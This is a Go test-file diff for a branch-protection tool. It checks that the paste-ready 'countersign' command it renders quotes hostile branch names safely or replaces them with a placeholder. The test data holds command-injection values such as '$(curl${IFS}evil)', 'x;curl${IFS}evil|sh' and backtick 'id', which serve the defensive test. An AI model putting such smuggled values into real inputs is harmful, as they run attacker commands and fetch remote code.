@@ -2,6 +2,8 @@ package policy
 
 import (
 	"bytes"
+	"os/exec"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -76,27 +78,46 @@ func TestAttestedListsDoNotDependOnTheOrder(t *testing.T) {
 	}
 }
 
-// An owner pastes the command that is asked for, with their token at hand, and anybody with
-// write access names branches: a name is one argument of the command and nothing else.
+// An owner pastes the command that the check run shows, with their token at hand, and anybody
+// with write access names branches: a name is one argument of the command and nothing else.
 func TestTheCommandIsSafeToPaste(t *testing.T) {
 	all := scenarios(t)
 	i := slices.IndexFunc(all, func(s scenario) bool { return s.name == "bypass-unreadable-attested" })
+	at := []string{"protect", "attest", "--server", "https://YOUR-COUNTERSIGN", "--repo", "acme/shop", "--branch"}
 	for branch, want := range map[string]string{
-		"main":                        "--branch main`",
-		"release/1.2_x-3":             "--branch release/1.2_x-3`",
-		"release/$(curl${IFS}evil)":   "--branch 'release/$(curl${IFS}evil)'`",
-		"release/x;curl${IFS}evil|sh": "--branch 'release/x;curl${IFS}evil|sh'`",
-		"release/it's;id":             `--branch 'release/it'\''s;id'` + "`",
+		"main": "main", "release/1.2_x-3": "release/1.2_x-3", "release/#12-34": "release/#12-34", "release/ü": "release/ü",
+		"release/$(curl${IFS}evil)": "release/$(curl${IFS}evil)", "release/x;curl${IFS}evil": "release/x;curl${IFS}evil",
+		"release/it's;id": "release/it's;id", "release/\"$HOME\"!!": "release/\"$HOME\"!!", "release/a\\nb": "release/a\\nb",
+		"release/" + strings.Repeat("'", 290): "release/" + strings.Repeat("'", 290),
+		// What a code span cannot show.
+		"release/`id`": "YOUR-BRANCH", "release/x|sh": "YOUR-BRANCH", "release/x&id": "YOUR-BRANCH", "release/<x>": "YOUR-BRANCH",
+		"release/@acme": "YOUR-BRANCH", "release/\u202ex": "YOUR-BRANCH", "release/a\nid": "YOUR-BRANCH", "release/" + strings.Repeat("x", 2000): "YOUR-BRANCH",
 	} {
 		f := clone(t, all[i].facts)
 		f.Change.BaseRef, f.Change.GoverningRef, f.Protection.Ref = branch, branch, branch
 		p := *all[i].policy
 		p.Branches = []string{"main", "release/**"}
 		p.enrolled = nil
-		d := Evaluate(&p, Builtin(), f)
-		k := slices.IndexFunc(d.Rules, func(r RuleResult) bool { return r.Rule == RuleBranchProtection })
-		if k < 0 || !strings.Contains(d.Rules[k].Remedy, want) {
-			t.Errorf("%s: got %+v, want a remedy of the branch's protection that holds %q", branch, d.Rules, want)
+		out := Render(Evaluate(&p, Builtin(), f), Proof{})
+		checkOutput(t, out)
+		spans := regexp.MustCompile("`countersign [^`]*`").FindAllString(out.Summary, -1)
+		if len(spans) != 2 { // what to do next, and the row of the rule
+			t.Errorf("%q: %d commands in\n%s", branch, len(spans), out.Summary)
+		}
+		for _, span := range spans {
+			if got := pasted(t, strings.Trim(span, "`")); !slices.Equal(got, append(slices.Clone(at), want)) {
+				t.Errorf("%q: the shell runs countersign with %q", branch, got)
+			}
 		}
 	}
+}
+
+// pasted are the arguments that a shell gives to countersign when a line is pasted into it.
+func pasted(t *testing.T, line string) []string {
+	t.Helper()
+	out, err := exec.CommandContext(t.Context(), "sh", "-c", "countersign() { printf '%s\\0' \"$@\"; }\n"+line).CombinedOutput()
+	if err != nil {
+		t.Errorf("%s: %v\n%s", line, err, out)
+	}
+	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
 }
